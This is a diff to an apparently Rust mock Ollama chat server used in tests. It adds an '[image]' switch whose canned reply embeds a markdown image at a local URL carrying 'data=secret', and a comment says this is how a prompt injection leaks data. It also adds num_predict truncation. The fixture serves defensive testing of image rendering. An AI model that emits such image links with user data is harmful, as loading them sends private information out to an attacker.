@@ -13,6 +13,7 @@
 //! - `[http500]` answer 500 with an error body
 //! - `[markdown]` answer with markdown: heading, list, table, code block and raw HTML
 //! - `[length]` end with `done_reason: "length"`
+//! - `[image]` answer with a markdown image on a remote URL (how a prompt injection leaks data)
 //! - `[controls]` answer with characters some databases refuse or that are easy to mangle
 //!   (NUL, other control characters, line separators, noncharacters), as Ollama's JSON escapes them
 
@@ -218,6 +219,10 @@ pub fn expected_answer(n: usize) -> String {
     (0..n).map(|i| WORDS[i % WORDS.len()]).collect()
 }
 
+/// The answer of `[image]`: an image whose URL would carry data out if it were loaded.
+pub const IMAGE_ANSWER: &str =
+    "Here is a chart: ![the chart](http://127.0.0.1:9/leak.png?data=secret) as asked.";
+
 /// The tokens of `[controls]`.
 pub const CONTROLS_ANSWER: &[&str] = &[
     "nul:\0;",
@@ -263,7 +268,12 @@ async fn chat(State(shared): State<Arc<Shared>>, body: Bytes) -> Response {
             "llama runner process has terminated: exit status 2",
         );
     }
-    let tokens: Vec<String> = if prompt.contains("[controls]") {
+    let tokens: Vec<String> = if prompt.contains("[image]") {
+        IMAGE_ANSWER
+            .split_inclusive(' ')
+            .map(str::to_string)
+            .collect()
+    } else if prompt.contains("[controls]") {
         CONTROLS_ANSWER.iter().map(|t| t.to_string()).collect()
     } else if prompt.contains("[markdown]") {
         MARKDOWN_ANSWER
@@ -276,6 +286,14 @@ async fn chat(State(shared): State<Arc<Shared>>, body: Bytes) -> Response {
             .map(|i| WORDS[i % WORDS.len()].to_string())
             .collect::<Vec<_>>()
     };
+    // Like Ollama, stop at `options.num_predict` tokens, with done_reason "length".
+    let num_predict = request["options"]["num_predict"].as_i64().unwrap_or(-1);
+    let mut tokens = tokens;
+    let mut cut_at_limit = false;
+    if num_predict > 0 && tokens.len() as i64 > num_predict {
+        tokens.truncate(num_predict as usize);
+        cut_at_limit = true;
+    }
     let delay = switch(&prompt, "delay")
         .map(Duration::from_millis)
         .unwrap_or(shared.config.token_delay);
@@ -286,7 +304,7 @@ async fn chat(State(shared): State<Arc<Shared>>, body: Bytes) -> Response {
     let fail = prompt.contains("[error]");
     let die = prompt.contains("[die]");
     let garbage = prompt.contains("[garbage]");
-    let done_reason = if prompt.contains("[length]") {
+    let done_reason = if prompt.contains("[length]") || cut_at_limit {
         "length"
     } else {
         "stop"
